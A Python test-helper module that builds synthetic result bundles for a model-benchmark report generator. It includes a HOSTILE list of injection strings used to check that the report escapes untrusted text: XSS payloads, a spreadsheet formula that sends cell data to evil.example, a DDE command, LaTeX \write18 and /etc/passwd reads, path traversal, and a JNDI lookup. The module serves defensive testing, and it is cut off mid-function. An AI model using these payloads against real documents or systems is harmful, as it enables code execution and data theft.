"""Plausible bundles, made without chance: the report is tested against these, whatever the rest of the house does."""

from __future__ import annotations

import hashlib
import json
import math
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from itertools import combinations
from typing import Any

import polars as pl

from bench.core import frames
from bench.core.comparisons import COMPARISONS
from bench.core.outcomes import encoded
from bench.diagnose import train_test_gap, tuning_optimism
from bench.report.bundle import Bundle, Provenance
from bench.study.claims import FORMS
from bench.study.deviations import Deviation
from bench.study.models import Study
from bench.text.chance import OneRepeat
from bench.text.explanations import ToleranceBand
from bench.text.findings import NotRequested
from bench.text.refusals import Incompatible
from bench.text.remarks import Constant, IdLike, Imbalance
from bench.text.unjudged import NotAttempted
from tests.helpers.axes import axes
from tests.helpers.sparse import sparse

Rows = list[dict[str, Any]]
EVIL = "<script>alert(1)</script>"
HOSTILE = (
    EVIL,
    '" onmouseover="alert(1)',
    "'><img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "\u202eabc\u05d0\u05d1\u05d2",
    "{{ 7 * 7 }}{% raw %}",
    "x" * 200,
    "javascript:alert(1)",
    "]]>&amp;<!--",
    "\\input{/etc/passwd} $x$ 5 % & #1 a_b ^c ~d {e}",
    "\\end{table}\\write18{id}",
    '=HYPERLINK("https://evil.example/?x="&A1;"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\x1b[31mred\x1b[0m\x07\x1b]0;title\x07",
    "\x9b2Jc1",
    "\x00null",
    "\U0001f469\u200d\U0001f52c\U0001f525 emoji",
    "`code` **bold** [link](javascript:alert(1)) | cell ![i](x) ~~s~~",
    "a \"quoted\" 'name', with; separators",
    "two\nlines\r\nand # three",
    "x;}body{display:none}/*",
    "&lt;b&gt; &#x3C;script&#x3E; &quot;",
    "\u2066isolate\u2069 zero\u200bwidth\ufeff",
    "../../etc/passwd",
    "${jndi:ldap://x} <%= 7 %> #{7}",
)
#: Keys of marks.MARKS, as made claims have them.
MARKS = (
    "exact",
    "reproduced",
    "reproduced",
    "fits",
    "not_reproduced",
    "missing",
)

#: p-values that fit the marks of made claims.
CHANCE = {
    "reproduced": 0.9,
    "fits": 0.2,
    "not_reproduced": 0.001,
    "differs": 0.001,
}


def wave(*parts: object) -> float:
    """A number in [-1, 1] that depends on its parts alone."""
    seed = sum((i + 1) * ord(c) for i, c in enumerate("|".join(map(str, parts))))
    return math.sin(seed * 12.9898) * math.cos(seed * 0.37)


def wine(**more: Any) -> dict[str, Any]:
    """A dataset of a study."""
    return {"source": {"kind": "sklearn", "name": "wine"}, "target": "target"} | more


def study(id_: str = "toy", **changes: Any) -> Study:
    """A study of one dataset and three families, with what is changed."""
    values: dict[str, Any] = {
        "title": "A toy",
        "task": "classification",
        "datasets": {"wine": wine(title="Wine")},
        "clean": None,
        "preprocess": ["scale"],
        "protocol": {
            "resampling": {"kind": "kfold", "folds": 5, "repeats": 2},
            "tuning": {"folds": 3},
            "seed": 7,
        },
        "families": {"logistic_regression": {}, "random_forest": {}, "svm": {}},
        "metrics": {"primary": "accuracy", "also": ["f1_macro"]},
        "compare": {
            "level": 0.95,
            "rope": 0.01,
            "why": "one case in a hundred",
        },
        "diagnostics": None,
    }
    values |= changes
    if isinstance(values.get("claims"), list | tuple):
        values["claims"] = tuple(
            FORMS[claim["kind"]].model.model_validate(claim)
            for claim in values["claims"]
        )
    made = Study.model_validate(values)
    return made.model_copy(update={"id": id_})


def folds_of(made: Study, rows: int) -> list[tuple[int, int]]:
    assert made.protocol is not None
    kind = made.protocol.resampling
    if kind.kind == "leave_one_out":
        return [(0, i) for i in range(rows)]
    return [
        (r, f)
        for r in range(getattr(kind, "repeats", 1))
        for f in range(getattr(kind, "folds", 1))
    ]


def counted_by_row(
    made: Study, built: dict[str, pl.DataFrame]
) -> dict[str, pl.DataFrame]:
    """The frames that judging makes of the predictions of a bundle."""
    from bench.diagnose import DiagnosticEvidence, by_row

    seen = (
        "tables",
        "folds",
        "scores",
        "tuning",
        "predictions",
        "remarks",
        "failures",
        "duplicates",
    )
    evidence = DiagnosticEvidence(
        made, **{name: built[name] for name in seen}, names={}
    )
    return by_row(evidence, built["estimates"], built["findings"])


def made_of(made: Study, rows: Rows | None = None, **parts: Rows) -> Bundle:
    """A bundle from rows by frame name; what is not given is empty."""
    from bench.report.bundle import FRAMES

    schemas = FRAMES | {
        "predictions": frames.REGRESSION
        if made.task == "regression"
        else frames.CLASSIFICATION
    }
    built = {
        name: sparse(parts.get(name, []), schema) for name, schema in schemas.items()
    }
    built |= counted_by_row(made, built)
    provenance = Provenance(
        versions={"bench": "0.1.0", "numpy": "2.3.4", "scikit-learn": "1.9.0"},
        seed=7,
        hashes=dict.fromkeys(made.datasets, "ab" * 32),
        rerun=f"bench repro {made.id}",
        study_sha256="cd" * 32,
    )
    return Bundle(made, built, provenance)


def tables(made: Study, rows: int, features: int, classes: list[str]) -> Rows:
    return [
        {
            "dataset": name,
            "title": spec.title,
            "source": "scikit-learn: wine",
            "rows": rows,
            "features": features,
            "classes": classes,
            "positive": None,
            "draws": 0,
            "raw_sha256": hashlib.sha256(name.encode()).hexdigest(),
            "fingerprint": "ef" * 32,
        }
        for name, spec in made.datasets.items()
    ]


def folds(made: Study, rows: int) -> Rows:
    splits = folds_of(made, rows)
    test = max(1, rows // max(1, len({f for _, f in splits})))
    return [
        {
            "dataset": d,
            "repeat": r,
            "fold": f,
            "train_rows": rows - test,
            "test_rows": test,
            "rows_sha256": f"{r}-{f}",
        }
        for d in made.datasets
        for r, f in splits
    ]


def scores(made: Study, rows: int, level: Callable[[str, str, str], float]) -> Rows:
    """Train, inner and test scores of every metric around `level(dataset, family, metric)`."""
    found: Rows = []
    sides = {"train": 0.02, "test": 0.0} | (
        {"inner": 0.006} if made.protocol and made.protocol.tuning else {}
    )
    pooled = (
        made.protocol is not None and made.protocol.resampling.kind == "leave_one_out"
    )
    splits = [(0, None)] if pooled else folds_of(made, rows)
    for d in made.datasets:
        for f in made.families or ():
            for metric in made.metrics.names:
                for side, lift in sides.items():
                    for r, fold in splits:
                        base = level(d, f, metric)
                        noise = (
                            0.0 if pooled else 0.015 * abs(base) * wave(d, f, r, fold)
                        )
                        worse = metric in ("rmse", "mae")
                        value = (
                            base
                            + noise
                            + (-lift if worse else lift) * (abs(base) if worse else 1)
                        )
                        if not worse:
                            value = min(value, 1.0)
                        key = {
                            "dataset": d,
                            "family": f,
                            "variant": "plain",
                            "repeat": r,
                            "fold": fold,
                        }
                        found.append(
                            key | {"side": side, "metric": metric, "value": value}
                        )
    return found


def comparisons(made: Study, given: Rows, half: float | None) -> dict[str, Rows]:
    """Intervals of half-width `half` (None: none exist), corrected t tests of every pair, ranks over datasets."""
    found: dict[str, Rows] = {name: [] for name in COMPARISONS}
    means = {}
    for d in made.datasets:
        for metric in made.metrics.names:
            here = {}
            for f in made.families or ():
                values = [
                    s["value"]
                    for s in given
                    if (s["dataset"], s["family"], s["metric"], s["side"])
                    == (d, f, metric, "test")
                ]
                if values:
                    here[f] = means[d, f, metric] = sum(values) / len(values)
            tested = half is not None and made.compare is not None
            sign = -1 if metric in ("rmse", "mae") else 1
            best = max(here, key=lambda f: sign * here[f], default=None)
            for f, mean in here.items():
                row = {
                    "dataset": d,
                    "family": f,
                    "metric": metric,
                    "mean": mean,
                    "fallbacks": 0,
                }
                row |= (
                    {}
                    if half is None
                    else {
                        "low": mean - half * abs(mean),
                        "high": mean + half * abs(mean),
                    }
                )
                row |= (
                    {"first_low": 0.41, "first_high": 0.72}
                    if tested and f == best
                    else {}
                )
                found["estimates"].append(row)
            for a, b in combinations(here, 2) if tested else ():
                key = {
                    "dataset": d,
                    "family": a,
                    "against": b,
                    "metric": metric,
                    "fallbacks": 0,
                }
                found["pairs"].append(
                    key | tested_pair(here[a] - here[b], half * abs(here[a]))
                )
    for metric in made.metrics.names:
        for name, rows in ranks(made, means, metric).items():
            found[name] += [row | {"metric": metric, "fallbacks": 0} for row in rows]
    return found


def tested_pair(gap: float, width: float) -> dict[str, Any]:
    """A pair as far apart as `gap`, with an interval of half-width `width`."""
    p = min(1.0, max(1e-5, math.exp(-3 * abs(gap) / width)))
    chances = {
        "p_less": 0.1 if gap > 0 else 0.6,
        "p_rope": 0.3,
        "p_greater": 0.6 if gap > 0 else 0.1,
    }
    row: dict[str, Any] = {
        "test": "corrected_t",
        "difference": gap,
        "low": gap - width,
        "high": gap + width,
        "p": p,
    }
    row |= chances | {
        "p_adjusted": min(1.0, 2 * p),
        "resolution": width,
    }
    return row


def ranks(made: Study, means: dict[Any, float], metric: str) -> dict[str, Rows]:
    """What is said over datasets by one metric: ranks, who is first, every pair."""
    names = list(made.families or ())
    places = [d for d in made.datasets if all((d, f, metric) in means for f in names)]
    if len(places) < 2 or len(names) < 2:
        return {}
    sign = 1 if metric in ("rmse", "mae") else -1
    totals = dict.fromkeys(names, 0.0)
    for d in places:
        for rank, f in enumerate(
            sorted(names, key=lambda f: sign * means[d, f, metric]), 1
        ):
            totals[f] += rank / len(places)
    n, m = len(places), len(names) * (len(names) - 1) // 2
    least = {"least_p_adjusted": min(1.0, m * 2.0 ** (1 - n))}
    top = min(totals, key=lambda f: totals[f])
    ranked: Rows = [
        {
            "family": f, "mean_rank": r, "low": max(1.0, r - 0.6), "high": min(float(len(names)), r + 0.6),
            "first": 0.8 if r == totals[top] else 0.1, "stays_first": 0.8 if f == top else None,
        }
        for f, r in totals.items()
    ]  # fmt: skip
    omnibus = {"datasets": n, "friedman_p": 0.029, "friedman_null": "exact"}
    pairs: Rows = []
    for a, b in combinations(names, 2):
        gaps = [means[d, a, metric] - means[d, b, metric] for d in places]
        counts = {
            "below": sum(g < 0 for g in gaps),
            "within": 0,
            "above": sum(g > 0 for g in gaps),
        }
        p = max(
            least["least_p_adjusted"],
            0.001 if 0 in (counts["below"], counts["above"]) else 0.4,
        )
        pair: dict[str, Any] = {"family": a, "against": b, "datasets": n, "exact": True}
        pair |= {
            "difference": sorted(gaps)[n // 2],
            "low": min(gaps),
            "high": max(gaps),
            "p": p / m,
            "p_adjusted": p,
        }
        pairs.append(
            pair | least | counts | {"p_less": 0.2, "p_rope": 0.5, "p_greater": 0.3}
        )
    return {"ranks": ranked, "omnibus": [omnibus], "pairs_over_datasets": pairs}


def tuning(made: Study, rows: int, grid: dict[str, dict[str, list[Any]]]) -> Rows:
    """Inner scores over one parameter a family, with a hill in the middle."""
    found: Rows = []
    for d in made.datasets:
        for f, parameters in grid.items():
            ((name, values),) = parameters.items()
            for r, fold in folds_of(made, rows):
                tops = [
                    0.95
                    - 0.02 * abs(c - len(values) // 2)
                    + 0.01 * wave(d, f, r, fold, c)
                    for c in range(len(values))
                ]
                for c, value in enumerate(values):
                    for inner in range(3):
                        key = {
                            "dataset": d,
                            "family": f,
                            "variant": "plain",
                            "repeat": r,
                            "fold": fold,
                            "candidate": c,
                        }
                        row = {
                            "parameters": json.dumps({name: value}),
                            "inner_fold": inner,
                            "metric": "accuracy",
                        }
                        row |= {
                            "value": min(1.0, tops[c] + 0.004 * wave(inner, c)),
                            "chosen": tops[c] == max(tops),
                        }
                        found.append(key | row)
    return found


def profile(
    made: Study, rows: int, columns: list[str], classes: list[str]
) -> dict[str, Rows]:
    """Columns, histograms, boxes, correlations and classes of every dataset."""
    parts: dict[str, Rows] = {
        name: []
        for name in ("columns", "histograms", "boxes", "correlations", "classes")
    }
    for d in made.datasets:
        for i, c in enumerate(columns):
            low, high = 10.0 * i, 10.0 * i + 8
            row = {
                "dataset": d,
                "column": c,
                "role": "feature",
                "type": "numeric",
                "rows": rows,
                "missing": 0,
            }
            row |= {
                "unique": rows // 2,
                "mean": low + 4,
                "sd": 1.5,
                "minimum": low,
                "maximum": high,
                "example": "4.2",
            }
            parts["columns"].append(row)
            for klass in [None, *classes]:
                share = 1.0 if klass is None else 1 / len(classes)
                shift = 0 if klass is None else classes.index(klass) - 1
                for b in range(12):
                    height = (
                        rows
                        * share
                        * math.exp(-((b - 5.5 - 1.5 * shift - wave(c)) ** 2) / 8)
                        / 5
                    )
                    edges = {
                        "low": low + b * 8 / 12,
                        "high": low + (b + 1) * 8 / 12,
                        "label": None,
                    }
                    parts["histograms"].append(
                        {
                            "dataset": d,
                            "column": c,
                            "bin": b,
                            "class": klass,
                            "count": round(height),
                        }
                        | edges
                    )
                middle = low + 4 + 0.6 * shift
                box = {
                    "low_whisker": middle - 2.5,
                    "q1": middle - 0.8,
                    "median": middle,
                    "q3": middle + 0.9,
                }
                box |= {
                    "high_whisker": middle + 2.4,
                    "outliers": 2,
                    "outlier_values": [middle - 3.1, middle + 3.2],
                }
                parts["boxes"].append({"dataset": d, "column": c, "class": klass} | box)
        for i, a in enumerate(columns):
            for j, b in enumerate(columns):
                r = (
                    1.0
                    if i == j
                    else max(-1.0, min(1.0, wave(min(a, b), max(a, b)) * 1.2))
                )
                parts["correlations"].append(
                    {"dataset": d, "i": i, "j": j, "a": a, "b": b, "r": r}
                )
        for k, klass in enumerate(classes):
            parts["classes"].append(
                {"dataset": d, "class": klass, "count": rows // len(classes) + 7 * k}
            )
    return parts


def learning(made: Study, given: Rows, shares: tuple[float, ...] = (0.25, 0.5)) -> Rows:
    """Scores of the primary metric on fewer rows: a family's own scores, and less the fewer rows there were."""
    found: Rows = []
    worse = made.metrics.primary in ("rmse", "mae")
    for row in given:
        if (
            row["metric"] != made.metrics.primary
            or row["side"] == "inner"
            or row["family"] == "baseline"
        ):
            continue
        steep = 0.12 if row["family"].endswith("forest") else 0.01
        for share in shares:
            gap = steep * (1 / share - 1) / 3 * (1 if row["side"] == "test" else -0.05)
            noise = 0.004 * wave(row["family"], row["repeat"], row["fold"], share)
            value = (
                row["value"] * (1 + gap + noise)
                if worse
                else min(1.0, row["value"] - gap + noise)
            )
            found.append(row | {"variant": f"train_share={share}", "value": value})
    return found


def importance(
    made: Study, rows: int, features: list[str], kind: str = "permutation"
) -> Rows:
    """The earlier a feature, the more it matters; families differ a little, coefficients have signs."""
    found: Rows = []
    for d in made.datasets:
        for f in (f for f in made.families or () if f != "baseline"):
            if kind == "coefficient" and f not in ("logistic_regression", "ridge"):
                continue
            for r, fold in folds_of(made, rows):
                for i, feature in enumerate(features):
                    value = (
                        0.12 / (1 + i)
                        + 0.02 * wave(f, feature)
                        + 0.01 * wave(f, feature, r, fold)
                    )
                    value = value if kind == "permutation" else 8 * value * (-1) ** i
                    key = {
                        "dataset": d,
                        "family": f,
                        "repeat": r,
                        "fold": fold,
                        "feature": feature,
                        "kind": kind,
                    }
                    found.append(key | {"value": value})
    return found


def effects(
    made: Study,
    rows: int,
    features: list[str],
    classes: list[str | None],
    height: float = 1.0,
) -> Rows:
    """Rising and falling curves of every feature, at places that differ from fold to fold."""
    found: Rows = []
    for d in made.datasets:
        for f in (f for f in made.families or () if f != "baseline"):
            for r, fold in folds_of(made, rows):
                for i, feature in enumerate(features):
                    for k, klass in enumerate(classes):
                        for step in range(8):
                            at = 10.0 * i + step + 0.2 * wave(fold, step)
                            bend = (
                                math.tanh((step - 4) * (0.5 + 0.2 * wave(f)))
                                * (-1) ** (i + k)
                                / (2 + i)
                            )
                            key = {
                                "dataset": d,
                                "family": f,
                                "repeat": r,
                                "fold": fold,
                                "feature": feature,
                                "at": at,
                            }
                            found.append(
                                key
                                | {"class": klass, "value": height * (0.5 + 0.4 * bend)}
                            )
    return found


def explanations(claim: str, dataset: str, family: str, found: Rows) -> Rows:
    """The explanations of the published number of one claim in percent, each with two points on either side."""
    key = {
        "claim": claim,
        "source": "paper",
        "dataset": dataset,
        "family": family,
        "metric": "accuracy",
    }
    ends = [
        one | {"low": one["estimate"] - 2, "high": one["estimate"] + 2} for one in found
    ]
    return [key | {"reasons": "[]"} | row for row in ends]


def way(
    kind: str, title: str, estimate: float, compatible: bool | None, **more: Any
) -> dict[str, Any]:
    row = {
        "variant": title,
        "kind": kind,
        "title": title,
        "estimate": estimate,
        "compatible": compatible,
    }
    return row | more


EXPLANATIONS: Rows = [
    way("valid", "As stated", 85.4, False, beyond=0.004),
    way("control", "Scaled before the split", 85.5, False),
    way("error", "Features selected on all rows", 90.9, True),
    way(
        "error", "Train score reported", 99.1, False, reasons=encoded([ToleranceBand()])
    ),
    way("error", "Best of ten seeds", 89.8, True),
]


def variance(made: Study) -> Rows:
    """A forest is noisy by its seed, the others by the split."""
    found: Rows = []
    for d in made.datasets:
        for f in (f for f in made.families or () if f != "baseline"):
            shares = (0.3, 0.6, 0.1) if f.endswith("forest") else (0.8, 0.05, 0.15)
            for source, share in zip(
                ("split", "model seed", "tuning seed"), shares, strict=True
            ):
                sd = 0.02 * math.sqrt(share)
                row = {
                    "dataset": d,
                    "family": f,
                    "metric": made.metrics.primary,
                    "source": source,
                    "share": share,
                }
                found.append(
                    row | {"sd": sd, "low": 0.7 * sd, "high": 1.5 * sd, "draws": 10}
                )
    return found


def sure(made: Study, given: Rows, classes: list[str]) -> Rows:
    """Probabilities for predictions: families are the surer the longer their names; right labels get a little more."""
    for row in given:
        k, right = classes.index(row["label"]), row["label"] == row["truth"]
        top = (
            0.62
            + 0.3 * abs(wave(row["family"], row["row"]))
            + (0.05 if right else -0.05)
        )
        rest = (1 - top) / (len(classes) - 1)
        row["p"] = [top if i == k else rest for i in range(len(classes))]
    return given


def predictions(made: Study, rows: int, classes: list[str]) -> Rows:
    """Test predictions of one repeat: one row in eleven is taken for the next class."""
    found: Rows = []
    for d in made.datasets:
        for f in made.families or ():
            for i in range(rows):
                key = {
                    "dataset": d,
                    "family": f,
                    "variant": "plain",
                    "repeat": 0,
                    "fold": i % 5,
                    "side": "test",
                    "row": i,
                }
                if made.task == "regression":
                    truth = 150 + 80 * wave("t", i)
                    found.append(
                        key | {"truth": truth, "value": truth + 30 * wave(f, i)}
                    )
                else:
                    k = i % len(classes)
                    wrong = (i + len(f)) % 11 == 0
                    found.append(
                        key
                        | {
                            "truth": classes[k],
                            "label": classes[(k + wrong) % len(classes)],
                        }
                    )
    return found


#: The cause of an attempted claim that says no other; one that holds has none.
CAUSES = {
    "fits": "open", "off": "open", "not_reproduced": "refuted",
    "differs": "other_method",
}  # fmt: skip


def verdict(
    claim: str, mark: str, dataset: str, family: str | None, published: str, **more: Any
) -> dict[str, Any]:
    """A value claim in percent, with numbers that fit its mark (`marks.MARKS`); a tolerance of one point."""
    shift = {
        "exact": 0.02,
        "reproduced": 0.2,
        "fits": 0.8,
        "not_reproduced": -3.4,
        "differs": -3.4,
    }.get(mark, 0.4)
    row: dict[str, Any] = {
        "claim": claim,
        "kind": "value",
        "dataset": dataset,
        "family": family,
        "metric": "accuracy",
    }
    row |= {
        "unit": "percent",
        "published": published,
        "doubts": "",
    }
    row |= {"source": "paper", "falsifier": False} | axes(mark)
    row |= {
        "tolerance": 1.0,
        "cause": CAUSES.get(mark),
        "reasons": encoded([OneRepeat()]),
    }
    if row["status"] == "attempted":
        half = 0.0 if mark == "exact" else 0.6
        row |= {
            "ours": float(published) + shift,
            "difference": shift,
            "low": shift - half,
            "high": shift + half,
        }
        row |= {
            "low_refute": shift - 1.2 * half,
            "high_refute": shift + 1.2 * half,
            "detectable": 1 + 1.2 * half,
        }
        row |= {"smallest_tolerance": abs(shift) + half, "p": CHANCE.get(mark)}
    return row | more


@cache
def classification() -> Bundle:
    """Three datasets, five families, two metrics, a claim of every kind of outcome, tuning, failures and findings."""
    names = {"wine": "Wine", "sonar": "Sonar, mines and rocks", "vehicle": "Vehicle"}
    made = study(
        "three-sets",
        title="Five models on three tables",
        paper={
            "citation": "A. Author (1999). On tables & trees. Journal of Tables 1(1), 1–10.",
            "year": 1999,
            "url": "https://example.org/paper",
            "summary": "Compares five models on three small tables.",
        },
        question="Do the published accuracies hold up?",
        datasets={n: wine(title=t) for n, t in names.items()},
        families={
            "baseline": {},
            "logistic_regression": {},
            "svm": {},
            "random_forest": {},
            "big_forest": {"family": "random_forest", "n_estimators": 500},
            "extra": {"estimator": "sklearn.ensemble.ExtraTreesClassifier"},
        },
        tolerance={"accuracy": 0.01, "why": "one case in a hundred"},
        deviations=[
            {
                "what": "split",
                "of": ["c6"],
                "note": "Ten folds stand for the paper's single split.",
            }
        ],
        claims=[
            {
                "id": f"c{i}",
                "kind": "value",
                "dataset": "wine",
                "family": "svm",
                "metric": "accuracy",
                "value": "90.1",
                "unit": "percent",
                "where": f"Table {i}",
                "read": "memory" if i == 3 else "source",
                "central": i == 0,
            }
            for i in range(7)
        ],
    )
    classes = ["barolo", "grignolino", "barbera"]
    columns = ["alcohol", "malic_acid", "ash", "magnesium", "hue", "proline"]
    order = {f: 0.02 * i for i, f in enumerate(made.families or ())}
    given = scores(
        made,
        178,
        lambda d, f, m: (
            0.42 if f == "baseline" else 0.86 + order[f] + 0.02 * wave(d, f)
        ),
    )
    one = [
        verdict(f"c{i}", w, d, f, p)
        for i, (w, d, f, p) in enumerate(
            zip(
                MARKS,
                ["wine", "sonar", "vehicle"] * 2,
                ["svm", "random_forest", "logistic_regression"] * 2,
                ["94.2", "88.1", "79.9", "91.0", "96.3", "97.7"],
                strict=True,
            )
        )
    ]
    one[3] |= {"evidence": "weak"}  # c3 is from memory
    one[2] |= {
        "kind": "better",
        "against": "baseline",
        "published": None,
        "unit": None,
        "ours": None,
        "difference": 0.081,
        "low": 0.04,
        "high": 0.12,
        "tolerance": None,
        "smallest_tolerance": None,
    }
    one.append(
        verdict(
            "c6",
            "fits",
            "sonar",
            "svm",
            "85.4",
            doubts="method split",
            evidence="limited",
        )
    )
    key = {"variant": "plain", "repeat": 0, "fold": 0, "policy": "the baseline's score"}
    return made_of(
        made,
        tables=tables(made, 178, 6, classes),
        folds=folds(made, 178),
        scores=given + learning(made, given),
        **comparisons(made, given, 0.025),
        verdicts=one,
        tuning=tuning(
            made,
            178,
            {
                "logistic_regression": {"C": [0.001, 0.01, 0.1, 1, 10, 100]},
                "random_forest": {"max_features": [1, 2, 4, 6]},
            },
        ),
        predictions=sure(made, predictions(made, 178, classes), classes),
        importance=importance(made, 178, columns)
        + importance(made, 178, columns, "coefficient"),
        effects=effects(made, 20, columns[:4], list(classes)),
        explanations=explanations("c3", "wine", "svm", EXPLANATIONS),
        variance=variance(made),
        duplicates=[{"dataset": "wine", "row": row, "duplicates": 0} for row in (4, 5)],
        failures=[
            key
            | {
                "dataset": "sonar",
                "family": "svm",
                "status": "timeout",
                "stage": "fit",
                "reason": "over 60 s",
            },
            key
            | {
                "dataset": "wine",
                "family": "logistic_regression",
                "status": "warning",
                "stage": "fit",
                "reason": "did not converge",
                "policy": None,
            },
        ],
        findings=[
            {
                "code": "O1",
                "diagnostic": "train_test_gap",
                "dataset": "wine",
                "family": "random_forest",
                "outcome": "found",
                "severity": "warning",
                "estimate": 0.03,
                "low": 0.02,
                "high": 0.04,
                "details": encoded([train_test_gap.Gap("accuracy")]),
            },
            {
                "code": "O2",
                "diagnostic": "tuning_optimism",
                "dataset": "wine",
                "family": "svm",
                "outcome": "passed",
                "severity": "note",
                "details": encoded(
                    [tuning_optimism.say("not_shown", metric="accuracy")]
                ),
            },
            {
                "code": "S7",
                "diagnostic": "permuted_labels",
                "outcome": "not_applicable",
                "severity": "note",
                "details": encoded([NotRequested("permutations: {}")]),
            },
        ],
        costs=[
            {"dataset": d, "family": f, "fits": 160}
            for d in made.datasets
            for f in made.families or ()
        ],
        cleaning=[
            {
                "dataset": "wine",
                "order": 0,
                "step": "drop_duplicates",
                "parameters": "{}",
                "rows_before": 180,
                "rows_after": 178,
                "columns_before": 7,
                "columns_after": 7,
                "cells_changed": 0,
                "example": "row 12 repeats row 3",
            }
        ],
        remarks=[
            {
                "dataset": "wine",
                "code": "imbalance",
                "column": None,
                "severity": "note",
                "count": 73,
                "details": encoded([Imbalance("a", 0.41)]),
            }
        ],
        **profile(made, 178, columns, classes),
    )


@cache
def regression() -> Bundle:
    """One dataset, three families, RMSE, no paper."""
    made = study(
        "reg",
        title="Diabetes progression",
        task="regression",
        datasets={
            "diabetes": {
                "source": {"kind": "sklearn", "name": "diabetes"},
                "target": "target",
                "title": "Diabetes",
            }
        },
        families={"ridge": {}, "random_forest": {}, "xgboost": {}},
        metrics={"primary": "rmse", "also": ["r2"]},
        compare={
            "level": 0.95,
            "rope": 1.0,
            "why": "a point of the scale",
        },
    )
    levels = {"ridge": 54.9, "random_forest": 57.4, "xgboost": 61.2}
    given = scores(
        made, 442, lambda d, f, m: levels[f] if m == "rmse" else 1 - levels[f] / 110
    )
    return made_of(
        made,
        tables=tables(made, 442, 4, []),
        folds=folds(made, 442),
        scores=given + learning(made, given),
        **comparisons(made, given, 0.05),
        predictions=predictions(made, 442, []),
        importance=importance(made, 442, ["age", "bmi", "bp", "s1"]),
        effects=effects(made, 442, ["bmi", "bp"], [None], 200.0),
        **profile(made, 442, ["age", "bmi", "bp", "s1"], []),
    )


@cache
def leave_one_out() -> Bundle:
    """A deterministic protocol: no intervals, pooled scores, exact verdicts."""
    made = study(
        "loo",
        title="Classifiers on wines",
        paper={"citation": "B. Writer (1992). Wines.", "year": 1992},
        protocol={"resampling": {"kind": "leave_one_out"}, "tuning": None, "seed": 1},
        families={
            "lda": {},
            "qda": {},
            "one_nn": {"family": "knn", "title": "1-NN", "n_neighbors": 1},
        },
        compare=None,
        tolerance={"accuracy": 0.01, "why": "one case in 178 is 0.6 points"},
        claims=[
            {
                "id": n,
                "kind": "value",
                "dataset": "wine",
                "family": f,
                "metric": "accuracy",
                "value": v,
                "unit": "percent",
                "where": "wine.names",
                "read": "source",
            }
            for n, f, v in (
                ("rda", None, "100"),
                ("qda", "qda", "99.4"),
                ("lda", "lda", "98.9"),
                ("nn", "one_nn", "96.1"),
            )
        ],
    )
    levels = {"lda": 176 / 178, "qda": 177 / 178, "one_nn": 170 / 178}
    given = scores(made, 178, lambda d, f, m: levels[f])
    rows = [
        verdict(
            "rda",
            "not_attempted",
            "wine",
            None,
            "100",
            reasons=encoded([NotAttempted("not in scikit-learn")]),
        ),
        verdict(
            "qda",
            "exact",
            "wine",
            "qda",
            "99.4",
            ours=99.438,
            difference=0.038,
            low=0.038,
            high=0.038,
        ),
        verdict(
            "lda",
            "exact",
            "wine",
            "lda",
            "98.9",
            ours=98.876,
            difference=-0.024,
            low=-0.024,
            high=-0.024,
        ),
        verdict(
            "nn",
            "reproduced",
            "wine",
            "one_nn",
            "96.1",
            ours=95.506,
            difference=-0.594,
            low=-0.594,
            high=-0.594,
            p=None,
        ),
    ]
    classes = ["class_0", "class_1", "class_2"]
    return made_of(
        made,
        tables=tables(made, 178, 4, classes),
        folds=folds(made, 178),
        scores=given,
        **comparisons(made, given, None),
        verdicts=rows,
        predictions=predictions(made, 178, classes),
        **profile(made, 178, ["alcohol", "ash", "hue", "proline"], classes),
    )


@cache
def barren() -> Bundle:
    """One family, and every cell failed: no scores, no claims, nothing."""
    made = study("barren", families={"svm": {}}, compare=None)
    key = {
        "dataset": "wine",
        "family": "svm",
        "variant": "plain",
        "status": "crash",
        "stage": "fit",
        "reason": "the worker died",
    }
    return made_of(
        made,
        folds=folds(made, 178),
        failures=[key | {"repeat": r, "fold": f} for r, f in folds_of(made, 178)],
    )


@cache
def many_sets(n: int = 12) -> Bundle:
    """Enough datasets for ranks to decide."""
    spec = wine()
    made = study(
        "many",
        datasets={f"set{i}": spec for i in range(n)},
        metrics={"primary": "accuracy"},
    )
    order = {"logistic_regression": 0.0, "random_forest": 0.05, "svm": 0.045}
    given = scores(made, 100, lambda d, f, m: 0.8 + order[f] + 0.03 * wave(d, f))
    return made_of(
        made,
        tables=tables(made, 100, 3, ["a", "b"]),
        folds=folds(made, 100),
        scores=given,
        **comparisons(made, given, 0.03),
    )


@cache
def hostile() -> Bundle:
    """Every free text is an attack on the page."""
    base = classification()
    made = base.study.model_copy(
        update={
            "title": EVIL,
            "question": HOSTILE[1],
            "deviations": tuple(Deviation(what="data", note=text) for text in HOSTILE),
            "datasets": {
                name: spec.model_copy(
                    update={"title": HOSTILE[i], "target": HOSTILE[i]}
                )
                for i, (name, spec) in enumerate(base.study.datasets.items())
            },
            "families": {
                name: spec.model_copy(update={"title": HOSTILE[(i + 2) % len(HOSTILE)]})
                for i, (name, spec) in enumerate((base.study.families or {}).items())
            },
        }
    )
    assert made.paper is not None and isinstance(made.claims, tuple)
    paper = made.paper.model_copy(
        update={
            "citation": HOSTILE[2],
            "url": HOSTILE[7],
            "doi": HOSTILE[7],
            "summary": HOSTILE[3],
        }
    )
    claims = tuple(
        c.model_copy(update={"where": HOSTILE[i], "note": HOSTILE[i + 1]})
        for i, c in enumerate(made.claims)
    )
    made = made.model_copy(update={"paper": paper, "claims": claims})
    classes = [HOSTILE[0], HOSTILE[1], HOSTILE[6]]
    parts = profile(made, 178, list(HOSTILE), classes)
    own = {
        name: set(HOSTILE[i::3]) for i, name in enumerate(made.datasets)
    }  # each a third of them as columns
    for name in ("columns", "histograms", "boxes", "correlations"):
        keys = ("a", "b") if name == "correlations" else ("column",)
        parts[name] = [
            row
            for row in parts[name]
            if {row[key] for key in keys} <= own[row["dataset"]]
        ]
    changed = {name: sparse(rows, frames.PROFILE[name]) for name, rows in parts.items()}
    changed["tables"] = sparse(
        tables(made, 178, len(HOSTILE) // 3, classes), frames.TABLES
    )
    changed["predictions"] = sparse(
        predictions(made, 178, classes), frames.CLASSIFICATION
    )
    for name, column in (
        ("failures", "reason"),
        ("cleaning", "example"),
    ):
        frame = base.frame(name)
        changed[name] = frame.with_columns(_cycled(frame.height).alias(column))
    evil = {"findings": Incompatible, "remarks": Constant}
    for name, kind in evil.items():
        frame = base.frame(name)
        details = [
            encoded([kind(HOSTILE[i % len(HOSTILE)])]) for i in range(frame.height)
        ]
        changed[name] = frame.with_columns(
